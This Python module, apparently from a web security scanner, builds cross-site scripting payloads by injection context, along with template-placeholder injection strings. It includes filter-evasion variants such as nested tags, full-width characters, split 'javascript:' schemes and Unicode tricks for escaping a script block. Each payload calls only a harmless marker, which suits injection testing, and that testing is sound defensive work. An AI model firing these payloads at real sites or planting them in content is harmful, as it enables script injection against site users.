"""Payloads that carry a marker as markup or code, by the context that they are meant to break out of."""

from __future__ import annotations


def attacks(context: str, marker: str) -> dict[str, str]:
    """Named payloads for "text", "attribute", "url", "script", "style", or "all" of them.

    `attacks("text", "zqk")["script"]` → `<script>zqk()</script>`
    """
    if context == "all":
        names = (*_CONTEXTS,)
        return {f"{name} {key}": value for name in names for key, value in attacks(name, marker).items()}
    if context not in _CONTEXTS:
        raise ValueError(f"context {context!r} is none of {', '.join(_CONTEXTS)}, all")
    return {name: payload.replace("MARK", marker) for name, payload in _CONTEXTS[context].items()}


def placeholders(*names: str) -> dict[str, str]:
    """Texts that home-made templates take for fields of these names, by the way of filling in.

    Where a value is filled in before others are, one that holds the field of another is filled in as well, in a place
    for which the other was not escaped.
    """
    found = {}
    for kind, case in (("upper case", str.upper), ("lower case", str.lower)):
        fields = [case(name) for name in names]
        signs = ("%%{}%%", "${{{{{}}}}}", "{{{{ {} }}}}", "${}", "@@{}@@", "__{}__", "[[{}]]", "##{}##")
        found[f"replaced, {kind}"] = " ".join(sign.format(field) for field in fields for sign in signs)
        # These stop at a name that they do not know.
        for field in fields:
            found |= {f"format, {field}": f"{{{field}}}", f"percent, {field}": f"%({field})s"}
            found[f"template, {field}"] = f"${{{field}}}"
    return found


_CONTEXTS = {
    "text": {
        "script": "<script>MARK()</script>",
        "upper-case script": "<SCRIPT>MARK()</SCRIPT>",
        "script with attribute": "<script MARK>MARK()</script>",
        "image handler": "<img src=x onerror=MARK()>",
        "handler after a slash": "<svg/onload=MARK()>",
        "nested script": "<scr<script>ipt>MARK()</scr</script>ipt>",
        "nested image": "<<img src=x onerror=MARK()>",
        "unclosed": "<img src=x onerror=MARK() x",
        "other handler": "<details open ontoggle=MARK()>",
        "javascript link": '<a href="javascript:MARK()">x</a>',
        "frame document": '<iframe srcdoc="<script>MARK()</script>"></iframe>',
        "comment end": "--><MARK>",
        "text area end": "</textarea><MARK>",
        "title end": "</title><MARK>",
        "element": "<MARK>",
        "full-width signs": "\uff1cimg src=x onerror=MARK()\uff1e",
        "stroke that joins the end of a tag": "\u0338 onmouseover=MARK() x",
    },
    "attribute": {
        "double quote and handler": '" onfocus=MARK() autofocus x="',
        "single quote and handler": "' onfocus=MARK() autofocus x='",
        "no quote": "x onfocus=MARK() autofocus",
        "double quote and element": '"><img src=x onerror=MARK()>',
        "single quote and element": "'><MARK>",
        "element": "><MARK>",
        "full-width quote": "\uff02 onfocus=MARK() autofocus x=\uff02",
    },
    "url": {
        "javascript": "javascript:MARK()",
        "mixed case": "JaVaScRiPt:MARK()",
        "leading space": " \x01javascript:MARK()",
        "tab inside": "java\tscript:MARK()",
        "newline inside": "java\nscript:MARK()",
        "comment that looks like an address": "javascript://shop.example/%0aMARK()",
        "address on a line of its own": "javascript:MARK()//\nhttps://shop.example/\n",
        "data": "data:text/html,<script>MARK()</script>",
        "vbscript": "vbscript:MARK()",
        "entity": "javascript&colon;MARK()",
        "quote": '"><MARK>',
        "single quote": "' onclick=MARK() '",
    },
    "script": {
        "double quote": '";MARK();//',
        "single quote": "';MARK();//",
        "backquote": "`;MARK();//",
        "backslash and quote": '\\";MARK();//',
        "backslash and single quote": "\\';MARK();//",
        "backslash at the end": "MARK\\",
        "template expression": "${MARK()}",
        "expression": "1;MARK()",
        "script end": "</script><script>MARK()</script>",
        "script end with space": "</script ><img src=x onerror=MARK()>",
        "script end behind letters that grow": "\u0130\u0149\ufb03" * 40 + "</script><img src=x onerror=MARK()>",
        "line end": "\nMARK()//",
        "line separator": "\u2028MARK()//",
        "comment end": "*/MARK()/*",
        "entity quote": "&quot;;MARK();//",
        "entity single quote": "&#39;);MARK();//",
    },
    "style": {
        "new property": "red;MARK:expression(1)",
        "new rule": "red}MARK{color:red",
        "address": "red;background:url(//MARK.example/)",
        "style end": "</style><MARK>",
        "quote": '"><MARK>',
    },
}
